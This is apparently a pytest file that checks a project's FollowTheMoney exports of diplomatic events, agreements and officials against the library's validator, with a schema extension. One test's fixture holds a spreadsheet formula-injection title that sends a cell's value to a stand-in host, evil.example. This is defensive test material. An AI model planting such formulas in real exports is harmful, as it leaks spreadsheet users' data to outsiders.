"""FollowTheMoney files are loaded with its own library, by the standard model and with the extension."""

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from followthemoney import model
from followthemoney.model import Model
from followthemoney.types import registry

from elchi.language import shared
from elchi.publishing import exports
from elchi.publishing.exports.ftm.entity import countries, dates, end, entity, start
from elchi.publishing.exports.ftm.organisations import organisation

SCHEMATA = Path(exports.__file__).parent / "ftm" / "schemata.yaml"
VALIDATE = """
import json, sys
from followthemoney import model
ids, links = set(), set()
for line in sys.stdin:
    data = json.loads(line)
    clean, raw = model.get_proxy(data), model.get_proxy(data, cleaned=False)
    assert clean.to_dict() == raw.to_dict() == data | clean.to_dict(), data
    assert clean.to_dict()["properties"] == data["properties"], data
    clean.schema.validate(data)
    assert all(clean.get(name) for name in clean.schema.required), data
    assert clean.id not in ids, data
    ids.add(clean.id)
    links |= {value for prop, value in clean.itervalues() if prop.type.name == "entity"}
assert links <= ids, links - ids
print(len(ids))
"""


@pytest.fixture(scope="module")
def extended(tmp_path_factory):
    """A folder with the standard schemata and the extension, as docs/exchange.md has it made."""
    folder = tmp_path_factory.mktemp("model") / "schema"
    shutil.copytree(Path(model.path), folder)
    shutil.copy(SCHEMATA, folder / "Elchi.yaml")
    return folder


def validated(path, folder=None):
    """How many entities the library takes, each as it is, with no link to what is not there."""
    given = {"FTM_MODEL_PATH": str(folder)} if folder else {}
    run = subprocess.run(
        [sys.executable, "-W", "error", "-c", VALIDATE],
        input=path.read_bytes(),
        capture_output=True,
        env=os.environ | given,
        check=False,
    )
    assert run.returncode == 0, run.stderr.decode()
    return int(run.stdout)


def by_schema(path, schema):
    lines = [json.loads(line) for line in path.read_text("utf-8").splitlines()]
    return [each["properties"] for each in lines if each["schema"] == schema]


def test_the_library_takes_every_entity_as_it_is(given, extended):
    assert validated(given("ftm", "a.ftm.json"), extended) == 16


def test_the_standard_model_takes_every_entity_of_the_plain_file(given):
    assert validated(given("ftm-plain", "a.ftm.json")) == 16


def test_hostile_pages_are_taken_too(exported, extended):
    path = exported("ftm", "a.ftm.json")
    assert validated(path, extended) > 10
    titles = [title for page in by_schema(path, "Article") for title in page["title"]]
    assert '=HYPERLINK("http://evil.example/?x="&A1,"Visit") | Визит;=1+1' in titles
    assert not any("javascript" in url for page in by_schema(path, "Article") for url in page.get("sourceUrl", ()))
    assert validated(exported("ftm-plain", "b.ftm.json")) > 10


def test_the_extension_loads_and_knows_its_parents(extended):
    loaded = Model(str(extended))
    agreement, commitment = loaded["DiplomaticAgreement"], loaded["DiplomaticCommitment"]
    assert agreement.is_a("Interval") and agreement.is_a("Thing") and commitment.is_a("Thing")
    assert agreement.get("amends").range.name == "DiplomaticAgreement"
    assert agreement.get("party").type.name == "country"
    assert [prop.name for prop in commitment.temporal_end_props] == ["dueOn"]
    assert not {"DiplomaticAgreement", "DiplomaticCommitment"} & set(model.schemata)


def test_an_event_with_its_pages_and_people(given):
    path = given("ftm", "a.ftm.json")
    (talks,) = [each for each in by_schema(path, "Event") if "talks" in each["keywords"]]
    (person,) = [line for line in map(json.loads, path.read_text("utf-8").splitlines()) if line["schema"] == "Person"]
    assert talks == {
        "name": ["Talks: Kazakhstan – Turkmenistan"],
        "country": ["kz", "tm"],
        "location": ["Ashgabat, Turkmenistan"],
        "involved": [person["id"]],
        "summary": ["occurred; stated"],
        "description": [
            "“Дана Омарова провела переговоры 20–21 мая” – vesti.example, 2024-05-22",
            "“Dana Omarova held talks on 20–21 May” – daily.example, 2024-05-23",
        ],
        "keywords": ["talks", "occurred", "stated"],
        "proof": ["article-r1", "article-e1"],
        "recordId": talks["recordId"],
        "startDate": ["2024-05-20"],
        "endDate": ["2024-05-21"],
    }
    (visit,) = [each for each in by_schema(path, "Event") if "visit" in each["keywords"]]
    assert visit["date"] == ["2025-06"]
    assert visit["summary"] == ["planned; stated"]


def test_a_person_their_office_and_its_body(given):
    path = given("ftm", "a.ftm.json")
    (person,), (post,), (body,) = (by_schema(path, one) for one in ("Person", "Position", "PublicBody"))
    assert person["name"] == ["Dana Omarova"]
    assert person["alias"] == ["Дана Омарова"]
    assert person["country"] == ["kz"]
    assert body["name"] == ["Ministry of Foreign Affairs of Kazakhstan"]
    assert post["name"] == person["position"] == ["Minister of Foreign Affairs of Kazakhstan"]
    (held,) = by_schema(path, "Occupancy")
    assert held["date"] == ["2024-05-21", "2024-05-22"]
    assert "startDate" not in held, "nobody told of an appointment"
    names = {(each["document"][0], each["name"][0]) for each in by_schema(path, "Mention")}
    assert names == {("article-r1", "Дана Омарова"), ("article-e1", "Dana Omarova"), ("article-r1", "ООН")}


def test_an_agreement_and_a_commitment(given):
    (paper,) = by_schema(given("ftm", "a.ftm.json"), "DiplomaticAgreement")
    assert paper["name"] == ["Договор о дружбе"]
    assert (paper["party"], paper["agreementType"], paper["level"]) == (["kz", "tm"], ["treaty"], ["state"])
    assert (paper["signedOn"], paper["startDate"], paper["endDate"]) == (["2024-05-20"], ["2024"], ["2030"])
    (promise,) = by_schema(given("ftm", "b.ftm.json"), "DiplomaticCommitment")
    assert (promise["action"], promise["dueOn"]) == (["open a bridge"], ["2026"])
    plain = given("ftm-plain", "c.ftm.json")
    assert by_schema(plain, "Document")[0]["fileName"] == ["Договор о дружбе"]
    assert by_schema(plain, "Note")[0]["entity"] == ["article-e1"]


def test_one_kind_comes_with_its_pages_alone(given, extended):
    path = given("ftm", "a.ftm.json", kinds=("agreements",))
    assert validated(path, extended) == 2
    assert "involved" not in by_schema(given("ftm", "b.ftm.json", kinds=("events",)), "Event")[0]


def test_a_part_of_the_record_has_no_loose_end(given, extended):
    assert validated(given("ftm", "a.ftm.json", pair=("KZ", "TM"), since="2024", until="2024"), extended) > 5


@pytest.mark.parametrize(
    ("edtf", "expected"),
    [
        ("2024-07-02", {"date": "2024-07-02"}),
        ("2024-07", {"date": "2024-07"}),
        ("2024", {"date": "2024"}),
        ("2024-07/2024-09-01", {"startDate": "2024-07", "endDate": "2024-09-01"}),
        ("2024/..", {"startDate": "2024", "endDate": None}),
        ("../2024", {"startDate": None, "endDate": "2024"}),
        ("2024-21", {"date": None}),
        ("2024-02-31", {"date": None}),
        (None, {}),
    ],
)
def test_a_date_is_as_exact_as_it_is_known(edtf, expected):
    assert dates(edtf) == expected
    assert all(registry.date.validate(day) for day in expected.values() if day)


def test_the_ends_of_a_span():
    assert (start("2024/2026"), end("2024/2026"), end("2024/.."), start(None)) == ("2024", "2026", None, None)


def test_every_country_is_one_of_the_library():
    codes = [country.code for country in shared().countries]
    assert [code for code in countries(codes) if registry.country.clean(code) != code] == []


def test_every_organisation_has_a_name_that_is_no_pattern():
    found = [organisation(one.id)["properties"] for one in shared().organisations]
    names = [name for one in found for field in ("name", "alias", "abbreviation") for name in one.get(field, ())]
    assert [name for name in names if any(mark in name for mark in "?|=") or ".." in name] == []
    assert organisation("UN")["properties"]["name"] == ["United Nations"]
    assert organisation("COP29")["properties"] == {"name": ["COP29"]}


def test_values_are_short_enough_and_whole_text():
    made = entity("Person", "p", name='"' + "Ж" * 500 + '"', summary="a\x00b\n\u2028c\ud800", alias=["", None, " x "])
    assert len(made["properties"]["name"][0]) <= registry.name.max_length
    assert made["properties"]["summary"] == ["ab c"]
    assert made["properties"]["alias"] == ["x"]


def test_every_property_of_the_extension_is_told():
    told = (Path(__file__).parents[3] / "docs" / "exchange.md").read_text("utf-8")
    for schema, given_by in yaml.safe_load(SCHEMATA.read_text("utf-8")).items():
        assert [name for name in (schema, *given_by["properties"]) if f"`{name}`" not in told] == []
